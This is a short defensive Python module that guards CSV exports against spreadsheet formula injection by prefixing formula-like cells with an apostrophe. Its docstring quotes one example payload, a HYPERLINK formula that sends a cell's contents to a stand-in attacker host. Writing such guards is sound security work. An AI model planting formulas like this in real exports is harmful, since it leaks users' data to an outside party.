"""Text that a spreadsheet would run as a formula, made safe (CSV injection, OWASP).

A comment saved from an emailed link can begin with "=", and Excel or LibreOffice would
run `=HYPERLINK("https://evil.example/?d="&A2, "Click")` when a clerk opens the export.
A cell that begins with one of the characters a spreadsheet reads as the start of a
formula is written with an apostrophe in front, which spreadsheets show as text and
`text_from_safe` takes off again when a log file is imported. Pure: no Django.
"""

# "=", "+", "-" and "@" begin a formula; a tab or carriage return before one is skipped
# by some spreadsheets, so a cell beginning with either is neutralised too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_formula_like(text: str) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def safe_text(text: str) -> str:
    """The cell's text as a CSV cell: "'=1+1" for "=1+1", anything else as it is."""
    return QUOTE + text if is_formula_like(text) else text


def text_from_safe(text: str) -> str:
    """Undo safe_text on a cell read from a file: "'=1+1" -> "=1+1"."""
    if text.startswith(QUOTE) and is_formula_like(text[1:]):
        return text[1:]
    return text
